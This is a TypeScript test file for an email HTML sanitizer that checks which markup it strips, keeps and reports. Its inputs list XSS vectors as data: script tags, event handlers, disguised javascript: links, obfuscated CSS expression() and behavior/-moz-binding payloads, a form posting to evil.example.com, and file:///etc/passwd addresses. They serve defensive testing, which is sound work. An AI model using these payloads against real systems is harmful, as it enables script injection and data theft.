import * as cheerio from 'cheerio';
import { brandTokens, renderModuleHtml } from '@mailplan/shared';
import { STARTER_MODULES } from '../module/starter-modules.js';
import { describeRemovals, sanitizeEmailHtml } from './email-sanitizer.js';

/** The markup a browser builds from `html` (entities and quoting written one way). */
const dom = (html: string) => cheerio.load(html, null, false).html();

/** What a sanitized email keeps, and the sentence that tells the user what was removed. */
function sanitized(source: string): { html: string; removals: string } {
  const { html, removed } = sanitizeEmailHtml(source);
  return { html, removals: describeRemovals(removed) };
}

describe('sanitizeEmailHtml', () => {
  it('removes scripts, event handlers, javascript: links, forms and frames, and keeps the content around them', () => {
    const { html, removed } = sanitizeEmailHtml(
      [
        '<p style="color:#333;">Hello <b>there</b></p>',
        '<script>document.title = "owned"</script>',
        '<img src="https://img.example.com/a.png" alt="A cup" width="300" onerror="alert(1)">',
        '<a href="javascript:alert(1)" onclick="steal()" style="color:red;">Click</a>',
        '<form action="https://evil.example.com/collect"><p>Sign up</p><input name="email"><button>Send</button></form>',
        '<iframe src="https://evil.example.com/"></iframe>',
        '<table role="presentation"><tr><td>Still here</td></tr></table>',
      ].join(''),
    );
    expect(html).toBe(
      '<p style="color:#333;">Hello <b>there</b></p>' +
        '<img src="https://img.example.com/a.png" alt="A cup" width="300" />' +
        '<a style="color:red;">Click</a>' +
        '<p>Sign up</p>' +
        '<table role="presentation"><tr><td>Still here</td></tr></table>',
    );
    expect(removed).toEqual([
      { kind: 'script', name: 'script' },
      { kind: 'eventHandler', name: 'onerror' },
      { kind: 'javascriptLink', name: 'href' },
      { kind: 'eventHandler', name: 'onclick' },
      { kind: 'form', name: 'form' },
      { kind: 'formField', name: 'input' },
      { kind: 'formField', name: 'button' },
      { kind: 'frame', name: 'iframe' },
    ]);
    expect(describeRemovals(removed)).toBe(
      '1 script, 2 event handlers (onerror, onclick), 1 javascript: link, 1 form, 2 form fields (input, button) and 1 embedded frame (iframe)',
    );
  });

  it('reads a javascript: address however it is disguised, and removes exactly the addresses it reports', () => {
    const unsafe = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', '  javascript:alert(1)', 'java\tscript:alert(1)', '&#106;avascript:alert(1)', 'javascript&colon;alert(1)', 'vbscript:msgbox(1)'];
    for (const href of unsafe) {
      const { html, removed } = sanitizeEmailHtml(`<a href="${href}">Go</a>`);
      expect([href, html, removed]).toEqual([href, '<a>Go</a>', [{ kind: 'javascriptLink', name: 'href' }]]);
    }
    expect(sanitized('<a href="data:text/html;base64,PHNjcmlwdD4=">A</a><a href="file:///etc/passwd">B</a><img src="javascript:alert(1)" alt="">')).toEqual({
      html: '<a>A</a><a>B</a><img alt="" />',
      removals: '1 javascript: link and 2 links with unsupported addresses (data:, file:)',
    });
  });

  it('checks the background image address of tables and cells like an image address', () => {
    expect(
      sanitized('<table background="javascript:alert(1)"><tr><td background=" JaVaScRiPt:alert(2)">A</td><th background="vbscript:msgbox(3)">B</th><td background="file:///etc/passwd">C</td></tr></table>'),
    ).toEqual({
      html: '<table><tr><td>A</td><th>B</th><td>C</td></tr></table>',
      removals: '3 javascript: links and 1 link with an unsupported address (file:)',
    });
  });

  it('keeps web, email, phone and text message links, relative addresses and merge tags as addresses', () => {
    const kept = [
      'https://example.com/p?a=1&amp;b=2',
      'http://example.com/',
      'mailto:hello@example.com',
      'tel:+15555550100',
      'sms:+15555550100',
      '{{unsubscribe_url}}',
      '*|UNSUB|*',
      '%%unsubscribe_center_url%%',
      '[unsubscribe]',
      '{$unsubscribe}',
      '#top',
      '/account',
      '//cdn.example.com/x',
    ];
    for (const href of kept) {
      const source = `<a href="${href}" target="_blank">Go</a>`;
      const { html, removed } = sanitizeEmailHtml(source);
      expect([href, html, removed]).toEqual([href, source, []]);
    }
    const image =
      '<img src="cid:logo@example.com" alt="Logo" /><img src="data:image/png;base64,iVBORw0KGgo=" alt="" />' +
      '<table background="cid:bg@example.com"><tr><td background="https://img.example.com/bg.png">A</td><th background="{{hero_bg}}">B</th></tr></table>';
    expect(sanitizeEmailHtml(image)).toEqual({ html: image, removed: [] });
  });

  it('keeps email layout markup and template syntax as written', () => {
    const source = [
      '<table role="presentation" width="600" cellpadding="0" cellspacing="0" border="0" align="center" bgcolor="#ffffff" style="width:100%;max-width:600px;">',
      '<tr><td align="center" valign="top" width="50%" height="20" bgcolor="#eeeeee" background="https://img.example.com/bg.png" style="padding:0;">',
      '<center><font face="Arial, sans-serif" size="2" color="#333333">Hi {{first_name}}, *|FNAME|* %%First%% {% if vip %}VIP{% endif %} {{{raw_block}}}</font></center>',
      '<h1 align="center" class="title" id="top" dir="ltr" lang="en" data-block="hero" aria-label="Welcome">Welcome</h1>',
      '<hr width="80%" size="1" color="#dddddd" />',
      '<ul type="square"><li>One</li></ul><ol start="3"><li value="3">Three</li></ol>',
      '<style type="text/css">@media only screen and (max-width: 620px) { .title { font-size: 20px !important; } }</style>',
      '</td></tr></table>',
    ].join('');
    expect(sanitizeEmailHtml(source)).toEqual({ html: source, removed: [] });
  });

  it('names other tags and attributes it drops, and drops the text of a title and plain comments', () => {
    expect(
      sanitized('<title>Page</title><svg onload="x()"><circle r="4"></circle></svg><div contenteditable="true">Text</div><!--[if mso]><table><tr><td><![endif]--><p>Body</p><!-- a note -->'),
    ).toEqual({
      html: '<div>Text</div><!--[if mso]><table><tr><td><![endif]--><p>Body</p>',
      removals: '1 event handler (onload), 3 unsupported tags (title, svg, circle) and 1 unsupported attribute (contenteditable)',
    });
  });

  it('keeps Outlook conditional comments byte for byte, VML buttons and downlevel-revealed markers included', () => {
    const source =
      '<table role="presentation"><tr><td align="center">' +
      '<!--[if mso]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" xmlns:w="urn:schemas-microsoft-com:office:word" href="https://shop.example.com/kit?a=1&amp;b=2" ' +
      `style="height:48px;v-text-anchor:middle;width:220px;" arcsize="13%" stroke="f" fillcolor="#1f6f5c"><w:anchorlock/><center style="color:#ffffff;font-family:'1942 Report', Georgia, serif;font-size:16px;">Shop the kit</center></v:roundrect><![endif]-->` +
      '<!--[if !mso]><!--><a href="https://shop.example.com/kit?a=1&amp;b=2" style="display:inline-block;">Shop the kit</a><!--<![endif]-->' +
      '<!--[if (gte mso 9)|(IE)]><table width="600" align="center"><tr><td><![endif]--><p>Body</p><!--[if (gte mso 9)|(IE)]></td></tr></table><![endif]-->' +
      '</td></tr></table>';
    expect(sanitizeEmailHtml(source)).toEqual({ html: source, removed: [] });
  });

  it('removes a conditional comment that holds anything the allowlist refuses, and names it', () => {
    expect(
      sanitized('<!--[if mso]><a href="javascript:alert(1)">x</a><![endif]--><p>ok</p><!--[if mso]><v:rect onclick="x()"></v:rect><![endif]--><!--[if mso]>--><script>alert(1)</script><!--<![endif]-->'),
    ).toEqual({
      html: '<p>ok</p><!--<![endif]-->',
      removals: '1 script, 1 event handler (onclick), 1 javascript: link and 3 Outlook conditional comments',
    });
  });

  describe('CSS that loads or runs code', () => {
    /** Each vector, written plainly and disguised, as a style attribute's declaration, and what the checklist calls it. */
    const VECTORS: Array<[string, string]> = [
      ['width: expression(alert(1))', 'CSS expression'],
      ['width: EXPRESSION(alert(1))', 'CSS expression'],
      ['width: e\\xpression(alert(1))', 'CSS expression'],
      ['width: \\65xpression(alert(1))', 'CSS expression'],
      ['width: \\000065 xpression(alert(1))', 'CSS expression'],
      ['width: exp/**/ression(alert(1))', 'CSS expression'],
      ['width: exp/* a comment */ression (alert(1))', 'CSS expression'],
      ['width: ｅｘｐｒｅｓｓｉｏｎ(alert(1))', 'CSS expression'],
      ['width:/**/expression(alert(1)) !important', 'CSS expression'],
      ['background: url(javascript:alert(1))', 'javascript: address'],
      ['background-image: URL("JavaScript:alert(1)")', 'javascript: address'],
      ["background-image: url( 'java\tscript:alert(1)' )", 'javascript: address'],
      ['background-image: url(\\6a avascript:alert(1))', 'javascript: address'],
      ['background-image: url(java\\script:alert(1))', 'javascript: address'],
      ['list-style-image: url(vbscript:msgbox(1))', 'vbscript: address'],
      ['background: url(data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', 'data: address'],
      ['background: url("DATA:Text/HTML,<script>alert(1)</script>")', 'data: address'],
      ['-moz-binding: url(https://evil.example.com/xss.xml#xss)', '-moz-binding'],
      ['-MOZ-BIND\\ing: url(https://evil.example.com/xss.xml#xss)', '-moz-binding'],
      ['behavior: url(https://evil.example.com/xss.htc)', 'behavior'],
      ['BEHAVIOR : url(xss.htc)', 'behavior'],
      ['*behavior: url(xss.htc)', 'behavior'],
      ['-ms-behavior: url(xss.htc)', 'behavior'],
    ];

    it('removes each unsafe declaration from a style attribute, however it is written, and keeps the others as written', () => {
      for (const [declaration, name] of VECTORS) {
        const source = `<p style="color: #333333; ${declaration.replace(/"/g, '&quot;')}; font-size: 16px">Hi</p>`;
        const { html, removed } = sanitizeEmailHtml(source);
        expect([declaration, html, removed]).toEqual([declaration, '<p style="color: #333333; font-size: 16px">Hi</p>', [{ kind: 'unsafeStyle', name }]]);
      }
    });

    it('reads entities in a style attribute as the browser does, and drops a style left empty', () => {
      expect(sanitized('<td style="background:url(&#106;avascript:alert(1))">A</td><div style="width:&#x65;xpression(alert(1));">B</div>')).toEqual({
        html: '<td>A</td><div>B</div>',
        removals: '2 unsafe style rules (javascript: address, CSS expression)',
      });
    });

    it('keeps styles without active content as written: images, fonts, data images, words that only look alike', () => {
      const kept = [
        'background-image: url(https://img.example.com/bg.png); background-color: #fdf6e3',
        "background: url('data:image/png;base64,iVBORw0KGgo=') no-repeat",
        "font-family: 'Expression Pro', Arial, sans-serif; mso-line-height-rule: exactly",
        'width: calc(100% - 20px); --brand: #123456',
        'color: red\nwidth: 2px',
      ];
      for (const style of kept) {
        const source = `<p style="${style.replace(/'/g, '&#39;')}">Hi</p>`;
        const { html, removed } = sanitizeEmailHtml(source);
        expect([style, dom(html), removed]).toEqual([style, dom(source), []]);
      }
    });

    it('removes a style attribute it cannot parse whole when it holds active content', () => {
      const { html, removed } = sanitizeEmailHtml(
        '<p style="color: red; width: expression(alert(1)">A</p><p style="color: red; x: &quot;abc; behavior: url(x.htc)">B</p><p style="color: red; be/**/havior: url(x.htc)">C</p>',
      );
      expect(html).toBe('<p>A</p><p>B</p><p>C</p>');
      expect(removed).toEqual([
        { kind: 'unsafeStyle', name: 'CSS expression' },
        { kind: 'unsafeStyle', name: 'behavior' },
        { kind: 'unsafeStyle', name: 'behavior' },
      ]);
    });

    it('removes unsafe rules from <style> elements (which the export inlines) and keeps the rest of the stylesheet', () => {
      const css = [
        '.hero { color: #111111; width: e\\xpression(alert(1)); padding: 8px; }',
        '@import url("javascript:alert(1)");',
        '.cta { behavior: url(xss.htc); background: url(data:text/html,x) }',
        '@media only screen and (max-width: 620px) { .hero { font-size: 20px !important; -moz-binding: url(x.xml#x) } }',
        'a[href^="javascript:"] { color: red }',
      ].join('\n');
      const { html, removed } = sanitizeEmailHtml(`<style type="text/css">${css}</style><p class="hero">Hi</p>`);
      expect(html).toBe(
        '<style type="text/css">' +
          ['.hero { color: #111111; padding: 8px; }', '.cta { }', '@media only screen and (max-width: 620px) { .hero { font-size: 20px !important } }'].join('\n') +
          '</style><p class="hero">Hi</p>',
      );
      expect(describeRemovals(removed)).toBe('6 unsafe style rules (CSS expression, javascript: address, behavior, data: address, -moz-binding)');
      // what is left is clean read again
      expect(sanitizeEmailHtml(html).removed).toEqual([]);
    });

    it('removes a stylesheet it cannot parse whole when it holds active content, and keeps one that is only broken', () => {
      expect(sanitizeEmailHtml('<style>.a { color: red; width: expression(alert(1)</style><p>x</p>')).toEqual({ html: '<style></style><p>x</p>', removed: [{ kind: 'unsafeStyle', name: 'CSS expression' }] });
      expect(sanitizeEmailHtml('<style>.a { color: red; width: 2px</style><p>x</p>')).toEqual({ html: '<style>.a { color: red; width: 2px</style><p>x</p>', removed: [] });
      // an unclosed <style> runs to the end of the HTML, and is read to the end
      expect(sanitizeEmailHtml('<p>x</p><style>.a { behavior: url(x.htc) }').html).not.toMatch(/behavior/);
    });

    it('reports the styles of a tag that stays only, and removes an Outlook conditional comment holding one', () => {
      const { html, removed } = sanitizeEmailHtml(
        '<form style="width: expression(1)"><p>In</p></form>' +
          '<!--[if mso]><v:rect style="behavior: url(#default#VML); width: 100px"></v:rect><![endif]--><p>ok</p>',
      );
      expect(html).toBe('<p>In</p><p>ok</p>');
      expect(describeRemovals(removed)).toBe('1 unsafe style rule (behavior), 1 form and 1 Outlook conditional comment');
    });

    it('cleans an address written into a field that fills a style', () => {
      const template = '<td style="background-image: url({{image}}); padding: 12px">{{text}}</td>';
      const filled = renderModuleHtml(template, { image: 'javascript:alert(1)', text: 'Hi' }, brandTokens());
      const { html, removed } = sanitizeEmailHtml(filled);
      expect(html).toBe('<td style="padding: 12px">Hi</td>');
      expect(removed).toEqual([{ kind: 'unsafeStyle', name: 'javascript: address' }]);
      expect(describeRemovals([{ kind: 'javascriptLink', name: 'href' }, { kind: 'javascriptLink', name: 'href' }, ...removed, ...removed, ...removed])).toBe(
        '2 javascript: links and 3 unsafe style rules (javascript: address)',
      );
    });
  });

  it('answers nothing removed for every starter module, filled or empty, and the same markup', () => {
    const tokens = brandTokens({ name: 'Ré & Co', typography: { headingFont: '1942 Report', bodyFont: 'Inter' }, colors: { primary: 'hsl(160, 56%, 28%)' } });
    for (const module of STARTER_MODULES) {
      const sample = Object.fromEntries(module.fields.map((f) => [f.name, `${f.placeholder ?? f.name} <"Tom's" & more>`]));
      const urls = Object.fromEntries(module.fields.filter((f) => /url/.test(f.name)).map((f) => [f.name, 'https://example.com/p?a=1&b=2']));
      const empty = Object.fromEntries(module.fields.map((f) => [f.name, '']));
      for (const values of [{ ...sample, ...urls }, empty, { ...urls, unsubscribe_url: '*|UNSUB|*' }, {}]) {
        const filled = renderModuleHtml(module.html, values, tokens);
        const { html, removed } = sanitizeEmailHtml(filled);
        expect([module.key, removed]).toEqual([module.key, []]);
        expect(dom(html)).toBe(dom(filled));
      }
    }
  });
});
